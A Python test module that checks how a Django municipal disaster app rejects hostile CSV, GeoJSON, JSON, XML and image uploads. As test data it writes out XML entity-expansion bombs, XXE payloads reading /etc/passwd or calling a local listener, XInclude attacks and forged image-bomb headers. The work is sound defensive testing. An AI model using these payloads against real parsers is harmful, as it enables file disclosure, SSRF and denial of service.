"""Hostile input: every door through which a file comes in, and every spreadsheet that goes out.

Each case is one (entry point × attack). A refused file must say why, where it can by row and
column (files) or by field (forms), and must leave the database as it was: imports are all or
nothing. Big files are made by the test, never committed.

Doors for files (see the report of this work for the inventory):

* CSV: the shelter registry (console page and ``machi shelters import``), guide FAQ (console
  page and ``machi guide import``), the resident register extract (``machi
  recovery_residents``), 学区/地区 (``machi notify_districts``), the open data checker (console).
* GeoJSON: the shelter registry. JSON: recovery rule tables (console form).
* XML: ``core.safexml`` and everything behind it: JMA messages (``jma.parse_message``, the
  upload page, ``machi jma ingest``), JMA Atom feeds, CAP alerts of other authorities (the
  alert page).
* Images: incident photos (report form, photo page, API) and survey photos, one check
  (``emergency.services_field.photo_check``).
* CMS signatures (.p7s) of the resident portal.

Exports: every CSV or .xlsx for Excel goes through ``core.japanese.excel_cell`` (or
``excel_csv``/``excel_xlsx``, which use it).
"""

from __future__ import annotations

import csv
import io
import json
import socket
import struct
import uuid
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any, cast

import pytest
from django.core.files.uploadedfile import (
    SimpleUploadedFile,
    TemporaryUploadedFile,
    UploadedFile,
)
from django.core.management import CommandError, call_command
from django.db.models import Model
from django.test import Client
from django.utils import translation
from django.utils.datastructures import MultiValueDict
from PIL import Image

from machi.core import japanese, safexml
from machi.core import services as core_services
from machi.core.models import AuditEvent, Facility, Municipality, User
from machi.core.roles import Action, Role
from machi.core.safexml import XmlRejected
from machi.emergency import cap, jma, jma_feed, services_field, services_weather
from machi.emergency.jma import JmaRejected
from machi.emergency.models import (
    ChronologyEntry,
    IncidentPhoto,
    IncomingAlert,
    JmaEntry,
    JmaEntryStatus,
    JmaWarning,
)
from machi.guide.models import Entry, Revision
from machi.notify.models import AreaGroup
from machi.opendata import services as opendata_services
from machi.opendata.models import Report, Resource
from machi.recovery.forms import RuleTableForm
from machi.recovery.models import Resident
from machi.shelters.models import Shelter

SHELTER_DATA = Path(__file__).resolve().parent.parent / "shelters" / "data"
MB = 1024 * 1024


@pytest.fixture(autouse=True)
def _english(settings: Any) -> Iterator[None]:
    settings.LANGUAGE_CODE = "en"
    with translation.override("en"):
        yield


@pytest.fixture(autouse=True)
def media(settings: Any, tmp_path: Path) -> Path:
    settings.MEDIA_ROOT = tmp_path / "media"
    return Path(settings.MEDIA_ROOT)


def counts(*models: type[Model]) -> dict[str, int]:
    return {model.__name__: model._default_manager.count() for model in models}


# =============================================================================================
# 1. CSV files: encodings, NUL bytes, huge cells, too many rows, through every CSV importer
# =============================================================================================


def _good_shelters() -> str:
    lines = (SHELTER_DATA / "gsi_112241_shelters.csv").read_text("utf-8-sig").splitlines()
    return "\n".join(lines[:3]) + "\n"


@dataclass(frozen=True)
class Outcome:
    ok: bool
    problems: list[str]  # each names its line (or row) and column where there is one
    rows: list[int | None]  # the rows named; None: the whole file


@dataclass(frozen=True)
class CsvDoor:
    name: str
    good: Callable[[], str]  # a valid file (header and rows)
    bad_row: str  # a data row that is wrong (for "too many rows")
    models: tuple[type[Model], ...]
    submit: Callable[[Any, bytes], Outcome]


def _line_numbers(texts: list[str]) -> list[int | None]:
    import re

    found: list[int | None] = []
    for text in texts:
        match = re.search(r"line (\d+)", text)
        found.append(int(match[1]) if match else None)
    return found


def _submit_shelters(env: Any, data: bytes) -> Outcome:
    response = env.client(env.hq).post(
        "/console/shelters/import/", {"file": SimpleUploadedFile("upload.csv", data)}
    )
    if response.status_code == 200:
        return Outcome(True, [], [])
    assert response.status_code == 400, response.status_code
    problems = response.context.get("problems") or []
    form_errors = list(response.context["form"].errors.get("file", []))
    assert form_errors, "the file field names the problem"
    return Outcome(
        False,
        [f"row {p.row}, column {p.column}: {p.message}" for p in problems] or form_errors,
        [p.row for p in problems],
    )


def _submit_guide(env: Any, data: bytes) -> Outcome:
    response = env.client(env.pr).post(
        "/console/guide/import/", {"file": SimpleUploadedFile("faq.csv", data)}
    )
    if response.status_code == 302:
        return Outcome(True, [], [])
    assert response.status_code == 400, response.status_code
    problems = [str(p) for p in response.context["problems"]]
    problems += [str(e) for e in response.context["form"].errors.get("file", [])]
    assert problems
    return Outcome(False, problems, _line_numbers(problems))


def _command(*args: str) -> Callable[[Any, bytes], Outcome]:
    """A management command given the file: refused is a CommandError or exit code 1, with
    each problem as ``PATH:LINE:COLUMN: message`` or ``PATH: line N, column C: message``."""

    def submit(env: Any, data: bytes) -> Outcome:
        path = env.tmp_path / f"{uuid.uuid4()}.csv"
        path.write_bytes(data)
        err = io.StringIO()
        try:
            call_command(*args, str(path), stdout=io.StringIO(), stderr=err)
        except (CommandError, SystemExit) as exc:
            lines = [line for line in err.getvalue().splitlines() if line.strip()]
            texts = [text.replace(str(path), "FILE") for text in [*lines, str(exc)]]
            rows = _line_numbers(texts)
            for text in texts:  # FILE:ROW:COLUMN: message (machi shelters import)
                parts = text.split(":", 3)
                if len(parts) == 4 and parts[0] == "FILE" and parts[1].isdigit():
                    rows.append(int(parts[1]))
            return Outcome(False, [t for t in texts if t.strip() not in ("", "1")], rows)
        return Outcome(True, [], [])

    return submit


def _submit_opendata(env: Any, data: bytes) -> Outcome:
    """The checker saves nothing; a file it cannot read is an error of row 0 (the file)."""
    response = env.client(env.dx).post(
        "/console/opendata/check/",
        {"layout": "evacuation_space:current", "file": SimpleUploadedFile("a.csv", data)},
    )
    assert response.status_code in (200, 400), response.status_code
    form = response.context["form"]
    if form.errors:
        return Outcome(False, [str(e) for e in form.errors.get("file", [])], [None])
    report = response.context["checked"]
    file_issues = [i for i in report.issues if i.code.startswith("file.")]
    if not file_issues:
        return Outcome(True, [], [])
    return Outcome(
        False,
        [f"row {i.row}: {i.message()}" for i in file_issues],
        [i.row or None for i in file_issues],
    )


CSV_DOORS = [
    CsvDoor(
        "shelters",
        _good_shelters,
        "1,X1,埼玉県戸田市,名前,戸田市1,1,,,999,999,\n",
        (Facility, Shelter, AuditEvent),
        _submit_shelters,
    ),
    CsvDoor(
        "guide",
        lambda: "ID,質問,回答,更新日\nq1,住民票は？,窓口へ,2025-04-01\nq2,戸籍は？,窓口へ,\n",
        "q9,質問,回答,not-a-date\n",
        (Entry, Revision, AuditEvent),
        _submit_guide,
    ),
    CsvDoor(
        "machi shelters import",
        _good_shelters,
        "1,X1,埼玉県戸田市,名前,戸田市1,1,,,999,999,\n",
        (Facility, Shelter, AuditEvent),
        _command("shelters", "import"),
    ),
    CsvDoor(
        "machi guide import",
        lambda: "ID,質問,回答,更新日\nq1,住民票は？,窓口へ,2025-04-01\nq2,戸籍は？,窓口へ,\n",
        "q9,質問,回答,not-a-date\n",
        (Entry, Revision, AuditEvent),
        _command("guide", "import"),
    ),
    CsvDoor(
        "recovery_residents",
        lambda: (
            "宛名番号,世帯番号,氏名,カナ,生年月日,性別,続柄,住所\n"
            "0001,H1,戸田太郎,トダタロウ,1980-01-01,男,世帯主,戸田市上戸田1-1\n"
            "0002,H1,戸田花子,トダハナコ,1982/2/3,女,妻,戸田市上戸田1-1\n"
        ),
        "0003,H2,名前,メイ,1980-13-45,男,世帯主,戸田市\n",
        (Resident, AuditEvent),
        _command("recovery_residents"),
    ),
    CsvDoor(
        "notify_districts",
        lambda: "学区,町字\n戸田第一小学校,上戸田1丁目\n戸田第一小学校,上戸田2丁目\n",
        "戸田第二小学校,どこにもない町\n",
        (AreaGroup, AuditEvent),
        _command("notify_districts"),
    ),
]
DOORS = {door.name: door for door in CSV_DOORS}


@dataclass
class Env:
    municipality: Municipality
    hq: User
    pr: User
    dx: User
    field: User
    client_for: Callable[[User], Client]
    tmp_path: Path

    def client(self, user: User) -> Client:
        return self.client_for(user)


@pytest.fixture
def env(
    municipality: Municipality,
    hq: User,
    make_staff: Callable[..., User],
    client_for: Callable[[User], Client],
    tmp_path: Path,
) -> Env:
    for name in ("上戸田1丁目", "上戸田2丁目"):
        core_services.area_get_or_create(municipality=municipality, name=name)
    return Env(
        municipality=municipality,
        hq=hq,
        pr=make_staff(Role.PR, username="pr"),
        dx=make_staff(Role.DX, username="dx"),
        field=make_staff(Role.FIELD, username="field"),
        client_for=client_for,
        tmp_path=tmp_path,
    )


def _insert_after_header(text: str, row: str) -> str:
    header, _, rest = text.partition("\n")
    return f"{header}\n{row}{rest}"


# What each attack does to a good file, and the line the refusal must name (None: any line).
CSV_ATTACKS: dict[str, tuple[Callable[[str], bytes], int | None]] = {
    "utf-16 with BOM (Excel's Unicode text)": (lambda t: t.encode("utf-16"), 1),
    "utf-16 big-endian with BOM": (lambda t: b"\xfe\xff" + t.encode("utf-16-be"), 1),
    "utf-16 without BOM": (lambda t: t.encode("utf-16-le"), 1),
    "utf-32": (lambda t: t.encode("utf-32"), 1),
    "binary garbage": (lambda t: bytes((i * 37 + 11) % 256 for i in range(4096)), None),
    "a PNG named .csv": (lambda t: _png(4, 4), None),
    "a NUL byte on line 3": (
        lambda t: "\n".join(
            (line + "\x00") if n == 2 else line for n, line in enumerate(t.split("\n"))
        ).encode(),
        3,
    ),
    "UTF-8 BOM before Shift_JIS bytes": (lambda t: b"\xef\xbb\xbf" + t.encode("cp932"), 1),
    "a single enormous line (one 200,000-character cell)": (
        lambda t: _insert_after_header(t, "x" * 200_000 + "\n").encode(),
        2,
    ),
    "a quote that is never closed": (
        lambda t: _insert_after_header(t, '"' + "a" * 50 + "\n").encode(),
        None,
    ),
}
CSV_ACCEPTED: dict[str, Callable[[str], bytes]] = {
    "utf-8": lambda t: t.encode(),
    "utf-8 with BOM": lambda t: b"\xef\xbb\xbf" + t.encode(),
    "utf-8 with the BOM twice": lambda t: b"\xef\xbb\xbf\xef\xbb\xbf" + t.encode(),
    "shift_jis (cp932)": lambda t: t.encode("cp932"),
    "CRLF line ends": lambda t: t.replace("\n", "\r\n").encode("cp932"),
}


@pytest.mark.parametrize("door", list(DOORS))
@pytest.mark.parametrize("encoding", list(CSV_ACCEPTED))
def test_csv_importers_accept_the_japanese_encodings(env: Env, door: str, encoding: str) -> None:
    spec = DOORS[door]
    outcome = spec.submit(env, CSV_ACCEPTED[encoding](spec.good()))
    assert outcome.ok, outcome.problems


@pytest.mark.parametrize("door", list(DOORS))
@pytest.mark.parametrize("attack", list(CSV_ATTACKS))
def test_csv_importers_refuse_hostile_files_by_line_and_save_nothing(
    env: Env, door: str, attack: str
) -> None:
    spec = DOORS[door]
    make, line = CSV_ATTACKS[attack]
    before = counts(*spec.models)
    outcome = spec.submit(env, make(spec.good()))
    assert not outcome.ok
    assert outcome.problems
    assert all(p.strip() for p in outcome.problems)
    if line is not None:
        assert line in outcome.rows, (outcome.rows, outcome.problems)
    else:
        assert any(row is not None for row in outcome.rows), outcome.problems
    assert counts(*spec.models) == before


@pytest.mark.parametrize("door", list(DOORS))
def test_csv_importers_refuse_a_wide_file_by_its_encoding_name(env: Env, door: str) -> None:
    spec = DOORS[door]
    outcome = spec.submit(env, spec.good().encode("utf-16"))
    assert any("UTF-16" in text for text in outcome.problems), outcome.problems
    assert any("UTF-8" in text and "Shift_JIS" in text for text in outcome.problems)


@pytest.mark.parametrize("door", list(DOORS))
def test_csv_importers_refuse_many_bad_rows_without_listing_them_all(env: Env, door: str) -> None:
    spec = DOORS[door]
    before = counts(*spec.models)
    good = spec.good()
    data = (good + spec.bad_row * 20_000).encode()
    outcome = spec.submit(env, data)
    assert not outcome.ok
    assert 1 <= len(outcome.problems) <= 60  # capped: a page, not 20,000 lines
    assert counts(*spec.models) == before


def test_a_bad_row_after_good_ones_saves_nothing_of_the_good_ones(env: Env) -> None:
    """All or nothing, also when the database refuses a row the checks let through."""
    for door in CSV_DOORS:
        before = counts(*door.models)
        outcome = door.submit(env, (door.good() + door.bad_row).encode())
        assert not outcome.ok, door.name
        assert counts(*door.models) == before, door.name


@pytest.mark.parametrize(
    ("door", "row", "column"),
    [
        ("recovery_residents", "0009,H9,{long},,,,,戸田市\n", "氏名"),
        ("recovery_residents", "0009,H9,名前,,,,,{long}\n", "住所"),
        ("notify_districts", "{long},上戸田1丁目\n", "学区"),
        ("guide", "q9,質問,回答,\n", None),  # sanity: a valid row
    ],
)
def test_values_longer_than_their_field_are_named_not_a_server_error(
    env: Env, door: str, row: str, column: str | None
) -> None:
    spec = DOORS[door]
    before = counts(*spec.models)
    outcome = spec.submit(env, (spec.good() + row.replace("{long}", "長" * 300)).encode())
    if column is None:
        assert outcome.ok
        return
    assert not outcome.ok
    assert any(column in text and "line 4" in text for text in outcome.problems)
    assert counts(*spec.models) == before


def test_a_guide_url_longer_than_its_field_is_named(env: Env) -> None:
    url = "https://example.jp/" + "a" * 600
    outcome = DOORS["guide"].submit(env, f"ID,質問,回答,関連URL\nq1,質問,回答,{url}\n".encode())
    assert not outcome.ok
    assert any("関連URL" in text and "line 2" in text for text in outcome.problems)
    assert not Entry.objects.exists()


@pytest.mark.parametrize("attack", ["utf-16 with BOM (Excel's Unicode text)", "binary garbage"])
def test_the_open_data_checker_reports_an_unreadable_file(env: Env, attack: str) -> None:
    before = counts(Report, Resource)
    outcome = _submit_opendata(env, CSV_ATTACKS[attack][0]("ID,名称\n1,a\n"))
    assert not outcome.ok
    assert outcome.problems
    assert counts(Report, Resource) == before


def test_the_open_data_checker_reports_nul_bytes_by_line(env: Env) -> None:
    outcome = _submit_opendata(env, b"ID,\xe5\x90\x8d\xe7\xa7\xb0\n1,a\n2,\x00b\n")
    assert not outcome.ok
    assert any("3" in text for text in outcome.problems), outcome.problems


# --- The decoder behind every CSV importer ---------------------------------------------------


@pytest.mark.parametrize(
    ("data", "encoding"),
    [
        ("名称,住所\n".encode(), "utf-8"),
        (b"\xef\xbb\xbf" + "名称,住所\n".encode(), "utf-8-sig"),
        ("名称,住所\n".encode("cp932"), "cp932"),
        ("名称,髙橋①\n".encode("cp932"), "cp932"),  # CP932's extensions (IBM, NEC)
        ("名称,住所\n".encode("shift_jis"), "cp932"),
    ],
)
def test_the_decoder_reads_utf8_and_shift_jis(data: bytes, encoding: str) -> None:
    decoded = japanese.decode_csv_bytes(data)
    assert decoded.encoding == encoding
    assert decoded.text.startswith("名称,")


@pytest.mark.parametrize(
    ("data", "row", "words"),
    [
        ("名称\n".encode("utf-16"), 1, "UTF-16"),
        ("名称\n".encode("utf-32"), 1, "UTF-32"),
        (b"\xfe\xff" + "名称\n".encode("utf-16-be"), 1, "UTF-16"),
        ("名称\nabc\n".encode("utf-16-le"), 1, "NUL"),
        (b"a,b\n1,2\n3,\x00\n", 3, "NUL"),
        (b"\xef\xbb\xbfa\n\xff\n", 2, "utf-8-sig"),
        (b"a\nb\n\x82\x20\n", 3, "neither UTF-8 nor Shift_JIS"),
    ],
)
def test_the_decoder_names_the_encoding_it_refuses_and_the_line(
    data: bytes, row: int, words: str
) -> None:
    with pytest.raises(japanese.CsvDecodeError) as info:
        japanese.decode_csv_bytes(data)
    assert info.value.row == row
    assert words in str(info.value)
    assert str(info.value).startswith(f"line {row}: ")


def test_a_cell_over_the_csv_limit_is_an_error_of_its_line() -> None:
    data = ("a,b\n1,2\n3," + "x" * 200_000 + "\n").encode()
    with pytest.raises(japanese.CsvDecodeError) as info:
        list(japanese.read_csv(data))
    assert info.value.row == 3


# =============================================================================================
# 2. Oversized uploads: refused on the field, streamed to disk first, nothing saved
# =============================================================================================


@dataclass(frozen=True)
class SizeDoor:
    url: str
    user: str
    field: str
    limit: int
    extra: dict[str, str]
    models: tuple[type[Model], ...]


SIZE_DOORS = {
    "shelters": SizeDoor(
        "/console/shelters/import/", "hq", "file", 10 * MB, {}, (Facility, Shelter)
    ),
    "guide": SizeDoor("/console/guide/import/", "pr", "file", 10 * MB, {}, (Entry,)),
    "opendata check": SizeDoor(
        "/console/opendata/check/",
        "dx",
        "file",
        20 * MB,
        {"layout": "evacuation_space:current"},
        (Report,),
    ),
    "JMA upload": SizeDoor(
        "/console/weather/upload/", "hq", "documents", 2 * MB, {}, (JmaEntry, JmaWarning)
    ),
    "CAP alert": SizeDoor(
        "/console/weather/alerts/add/", "hq", "document", 2 * MB, {}, (IncomingAlert,)
    ),
    "incident photos": SizeDoor(
        "/console/incidents/new/",
        "field",
        "photos",
        10 * MB,
        {
            "id": str(uuid.uuid4()),
            "category": "flooding",
            "severity": "3",
            "title": "冠水",
            "latitude": "35.8175",
            "longitude": "139.677778",
        },
        (IncidentPhoto,),
    ),
}


@pytest.mark.parametrize("door", list(SIZE_DOORS))
def test_a_file_over_the_limit_is_refused_on_its_field(env: Env, door: str, settings: Any) -> None:
    spec = SIZE_DOORS[door]
    before = counts(*spec.models)
    head = _jpeg(8, 8) if door == "incident photos" else b"<?xml version='1.0'?>\n<a>"
    big = head + b" " * (spec.limit + 1 - len(head))
    user = {"hq": env.hq, "pr": env.pr, "dx": env.dx, "field": env.field}[spec.user]
    response = env.client(user).post(
        spec.url, {**spec.extra, spec.field: SimpleUploadedFile("big.xml", big)}
    )
    assert response.status_code == 400
    form = next(
        response.context[name]
        for name in ("form", "upload_form", "alert_form")
        if name in response.context and response.context[name].errors
    )
    assert spec.field in form.errors
    if spec.limit > settings.FILE_UPLOAD_MAX_MEMORY_SIZE:
        # Streamed to a temporary file, never held in memory whole.
        assert isinstance(form.files[spec.field], TemporaryUploadedFile)
    assert counts(*spec.models) == before


def test_the_guide_import_names_the_size_of_a_large_file(env: Env) -> None:
    big = b"ID,\n" + b"x" * (10 * MB)
    response = env.client(env.pr).post(
        "/console/guide/import/", {"file": SimpleUploadedFile("faq.csv", big)}
    )
    assert response.status_code == 400
    assert "10 MB" in response.context["form"].errors["file"][0]


# =============================================================================================
# 3. GeoJSON (the shelter registry) and JSON (recovery rule tables)
# =============================================================================================


def _feature(geometry: Any, **properties: Any) -> dict[str, Any]:
    base = {
        "共通ID": "E1122400001112",
        "都道府県名及び市町村名": "埼玉県戸田市",
        "施設・場所名": "戸田東小学校",
        "住所": "埼玉県戸田市下戸田1-11-15",
        "指定緊急避難場所との住所同一": 1,
        "受入対象者": "",
    }
    return {"type": "Feature", "geometry": geometry, "properties": {**base, **properties}}


def _collection(*features: Any) -> bytes:
    return json.dumps({"type": "FeatureCollection", "features": list(features)}).encode()


POINT = {"type": "Point", "coordinates": [139.687147, 35.813926]}

# (file, the row that must be named, the column that must be named or None)
GEOJSON_ATTACKS: dict[str, tuple[bytes, int | None, str | None]] = {
    "not JSON": (b'{"type": "FeatureCollection", "features": [', 1, None),
    "JSON but an array": (b"[1, 2, 3]", None, None),
    "deeply nested JSON": (b'{"a":' * 100_000 + b"1" + b"}" * 100_000, None, None),
    "deeply nested arrays": (b"{" + b"[" * 200_000 + b"]" * 200_000, None, None),
    "a LineString": (
        _collection(_feature({"type": "LineString", "coordinates": [[139.6, 35.8]] * 2})),
        1,
        "geometry",
    ),
    "a Polygon with 200,000 coordinates": (
        _collection(
            _feature({"type": "Polygon", "coordinates": [[[139.6, 35.8]] * 200_000]}),
        ),
        1,
        "geometry",
    ),
    "a Point without numbers": (
        _collection(_feature({"type": "Point", "coordinates": ["139", "35"]})),
        1,
        "geometry",
    ),
    "a Point with NaN": (
        _collection(
            _feature(POINT), _feature({"type": "Point", "coordinates": [139.6, 1]})
        ).replace(b"[139.6, 1]", b"[NaN, Infinity]"),
        2,
        "緯度",
    ),
    "latitude out of range": (
        _collection(_feature({"type": "Point", "coordinates": [139.6, 95.0]})),
        1,
        "緯度",
    ),
    "longitude out of range": (
        _collection(_feature({"type": "Point", "coordinates": [200.0, 35.8]})),
        1,
        "経度",
    ),
    "an enormous number": (  # Python refuses ints of over 4,300 digits: a file problem
        _collection(_feature(POINT)).replace(b"139.687147", b"1" * 5000),
        None,
        None,
    ),
    "an enormous decimal": (
        _collection(_feature(POINT)).replace(b"139.687147", b"1." + b"1" * 5000 + b"e999"),
        1,
        "経度",
    ),
    "geometry null": (_collection(_feature(POINT), _feature(None)), 2, "geometry"),
    "properties a list": (
        _collection({"type": "Feature", "geometry": POINT, "properties": [1, 2]}),
        None,  # no known column at all: a problem of the whole file
        None,
    ),
}


@pytest.mark.parametrize("attack", list(GEOJSON_ATTACKS))
def test_hostile_geojson_is_refused_by_feature_and_column(env: Env, attack: str) -> None:
    data, row, column = GEOJSON_ATTACKS[attack]
    before = counts(Facility, Shelter, AuditEvent)
    response = env.client(env.hq).post(
        "/console/shelters/import/", {"file": SimpleUploadedFile("a.geojson", data)}
    )
    assert response.status_code == 400
    problems = response.context["problems"]
    assert problems
    if row is not None:
        assert any(p.row == row for p in problems), problems
    if column is not None:
        assert any(p.column == column for p in problems), problems
    assert counts(Facility, Shelter, AuditEvent) == before


def test_a_valid_point_imports(env: Env) -> None:
    """The baseline of the attacks above: the same feature with a good Point imports."""
    response = env.client(env.hq).post(
        "/console/shelters/import/",
        {"file": SimpleUploadedFile("a.geojson", _collection(_feature(POINT)))},
    )
    assert response.status_code == 200, response.context.get("problems")
    assert Shelter.objects.count() == 1


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"[" * 100_000 + b"]" * 100_000, "nested too deeply"),
        (b"{not json", "not JSON"),
        ('{"name": "R3"}'.encode("utf-16"), "not JSON"),
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "not JSON"),
        (b"[1, 2]", "one JSON object"),
        (b" " * (512 * 1024 + 1), "too large"),
    ],
)
def test_a_hostile_rule_table_is_refused_on_its_field(data: bytes, words: str) -> None:
    upload: UploadedFile = SimpleUploadedFile("t.json", data)
    files = MultiValueDict({"file": [upload]})
    form = RuleTableForm(data={}, files=files)
    assert not form.is_valid()
    assert list(form.errors) == ["file"]
    assert words in form.errors["file"][0]


# =============================================================================================
# 4. XML: every entry point × every classic attack; no file read, no network reached
# =============================================================================================


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A port on 127.0.0.1 that the attacks point at: nobody may connect to it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.setblocking(False)
    yield server
    server.close()


def _nobody_called(server: socket.socket) -> None:
    try:
        connection, _address = server.accept()
    except BlockingIOError:
        return
    connection.close()
    raise AssertionError("the parser reached the network")


JMX = "http://xml.kishou.go.jp/jmaxml1/"
CAP12 = "urn:oasis:names:tc:emergency:cap:1.2"
ATOM = "http://www.w3.org/2005/Atom"

_LAUGHS = "".join(f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10}">' for n in range(1, 10))
XML_ATTACKS: dict[str, str] = {
    "billion laughs": (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY lol0 "lol">' + _LAUGHS + "]>"
        "<{root}>&lol9;</{root_end}>"
    ),
    "quadratic blowup": (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "' + "x" * 50_000 + '">]>'
        "<{root}>" + "&a;" * 2_000 + "</{root_end}>"
    ),
    "external entity: file": (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        "<{root}>&x;</{root_end}>"
    ),
    "external entity: http to 127.0.0.1": (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://127.0.0.1:{port}/x">]>'
        "<{root}>&x;</{root_end}>"
    ),
    "parameter entity": (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://127.0.0.1:{port}/p">'
        "%p;]><{root}/>"
    ),
    "external DTD": (
        '<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://127.0.0.1:{port}/r.dtd"><{root}/>'
    ),
    "XInclude of /etc/passwd": (
        '<?xml version="1.0"?><{root}><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
        'href="file:///etc/passwd" parse="text"/></{root_end}>'
    ),
    "XInclude over http": (
        '<?xml version="1.0"?><{root}><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
        'href="http://127.0.0.1:{port}/x"/></{root_end}>'
    ),
    "deep nesting": '<?xml version="1.0"?><{root}>'
    + "<a>" * 50_000
    + "</a>" * 50_000
    + "</{root_end}>",
    "not XML": "\x00\x01binary{root}{root_end}{port}",
    "empty": "   ",
    # Over every door's limit (2 MB for messages and alerts, 10 MB for feeds).
    "over the size limit": '<?xml version="1.0"?><{root}>' + " " * (10 * MB) + "</{root_end}>",
}
ROOTS = {
    "jma": (f'Report xmlns="{JMX}"', "Report"),
    "cap": (f'alert xmlns="{CAP12}"', "alert"),
    "atom": (f'feed xmlns="{ATOM}"', "feed"),
    "plain": ("r", "r"),
}


def _attack(name: str, root: str, port: int) -> bytes:
    start, end = ROOTS[root]
    return (
        XML_ATTACKS[name]
        .replace("{root}", start)
        .replace("{root_end}", end)
        .replace("{port}", str(port))
        .encode("utf-8")
    )


@dataclass(frozen=True)
class XmlDoor:
    root: str
    call: Callable[[bytes], Any]
    refusals: tuple[type[Exception], ...]


def _alert_receive(data: bytes) -> Any:
    return services_weather.alert_receive(data, received_by="test")


XML_DOORS = {
    "core.safexml.parse": XmlDoor("plain", safexml.parse, (XmlRejected,)),
    "jma.parse_message": XmlDoor("jma", jma.parse_message, (XmlRejected, JmaRejected)),
    "jma_feed.parse_feed": XmlDoor("atom", jma_feed.parse_feed, (XmlRejected,)),
    "cap.validate_cap": XmlDoor("cap", cap.validate_cap, (XmlRejected,)),
    "cap.parse_alert": XmlDoor("cap", cap.parse_alert, (XmlRejected,)),
    "services_weather.alert_receive": XmlDoor(
        "cap", _alert_receive, (services_weather.AlertError,)
    ),
}


@pytest.mark.django_db
@pytest.mark.parametrize("door", list(XML_DOORS))
@pytest.mark.parametrize("attack", list(XML_ATTACKS))
def test_every_xml_door_refuses_every_attack(
    door: str, attack: str, listener: socket.socket
) -> None:
    spec = XML_DOORS[door]
    data = _attack(attack, spec.root, listener.getsockname()[1])
    before = counts(IncomingAlert, ChronologyEntry, JmaEntry)
    refusal = ""
    try:
        result = spec.call(data)
    except spec.refusals as exc:
        refusal = str(exc)
    if refusal:
        assert refusal.strip()
        assert "root:" not in refusal  # nothing of /etc/passwd in the reason
    else:
        # Only XInclude gets past the parser: it is an element like any other, never resolved
        # (the feed reader validates no schema; it finds no entry in such a feed).
        assert attack.startswith("XInclude"), result
        assert door in ("core.safexml.parse", "jma_feed.parse_feed")
        if door == "jma_feed.parse_feed":
            assert result == []
            return
        from lxml import etree  # type: ignore[import-untyped]

        text = etree.tostring(result).decode()
        assert "include" in text
        assert "root:" not in text
    _nobody_called(listener)
    assert counts(IncomingAlert, ChronologyEntry, JmaEntry) == before


@pytest.mark.parametrize("attack", list(XML_ATTACKS))
def test_jma_files_with_attacks_are_kept_as_rejected_and_change_no_warning(
    env: Env, attack: str, listener: socket.socket
) -> None:
    """The JMA upload keeps each file once, by design: a hostile one as *rejected* with the
    reason (so the same file is not tried again), and no warning or chronology line."""
    data = _attack(attack, "jma", listener.getsockname()[1])
    if len(data) > safexml.DEFAULT_MAX_BYTES:
        pytest.skip("refused on the form: see test_a_file_over_the_limit_is_refused_on_its_field")
    before = counts(JmaWarning, ChronologyEntry)
    response = env.client(env.hq).post(
        "/console/weather/upload/",
        {"documents": SimpleUploadedFile("attack.xml", data)},
        follow=True,
    )
    assert response.status_code == 200
    entry = JmaEntry.objects.get()
    assert entry.status == JmaEntryStatus.REJECTED
    assert entry.error
    assert "root:" not in entry.error
    shown = [str(m) for m in response.context["messages"]]
    assert any("attack.xml" in text for text in shown)
    assert counts(JmaWarning, ChronologyEntry) == before
    _nobody_called(listener)


@pytest.mark.parametrize("attack", list(XML_ATTACKS))
def test_cap_files_with_attacks_are_refused_on_the_document_field(
    env: Env, attack: str, listener: socket.socket
) -> None:
    data = _attack(attack, "cap", listener.getsockname()[1])
    before = counts(IncomingAlert, ChronologyEntry)
    response = env.client(env.hq).post(
        "/console/weather/alerts/add/", {"document": SimpleUploadedFile("a.cap", data)}
    )
    assert response.status_code == 400
    form = response.context["alert_form"]
    assert list(form.errors) == ["document"]
    assert "root:" not in str(form.errors)
    assert counts(IncomingAlert, ChronologyEntry) == before
    _nobody_called(listener)


def test_jma_ingest_command_rejects_an_attack_with_exit_code_1(
    env: Env, listener: socket.socket
) -> None:
    path = env.tmp_path / "laughs.xml"
    path.write_bytes(_attack("billion laughs", "jma", listener.getsockname()[1]))
    err = io.StringIO()
    with pytest.raises(SystemExit) as info:
        call_command("jma", "ingest", str(path), stdout=io.StringIO(), stderr=err)
    assert info.value.code == 1
    assert "laughs.xml" in err.getvalue()
    assert not JmaWarning.objects.exists()


# =============================================================================================
# 5. Images: bytes decide, bombs refused, names ours, files only inside MEDIA_ROOT
# =============================================================================================


def _jpeg(width: int, height: int, **save: Any) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (10, 120, 200)).save(buffer, format="JPEG", **save)
    return buffer.getvalue()


def _png(width: int, height: int) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (10, 120, 200)).save(buffer, format="PNG")
    return buffer.getvalue()


def _png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header declares width × height (a decompression bomb's header)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + header
    ihdr = struct.pack(">I", len(header)) + chunk + struct.pack(">I", zlib.crc32(chunk))
    data = zlib.compress(b"\x00" * 64)
    idat = (
        struct.pack(">I", len(data))
        + b"IDAT"
        + data
        + struct.pack(">I", zlib.crc32(b"IDAT" + data))
    )
    end = struct.pack(">I", 0) + b"IEND" + struct.pack(">I", zlib.crc32(b"IEND"))
    return b"\x89PNG\r\n\x1a\n" + ihdr + idat + end


def _jpeg_claiming(width: int, height: int) -> bytes:
    """A real small JPEG whose frame header (SOF0) is rewritten to declare width × height."""
    data = bytearray(_jpeg(16, 16))
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


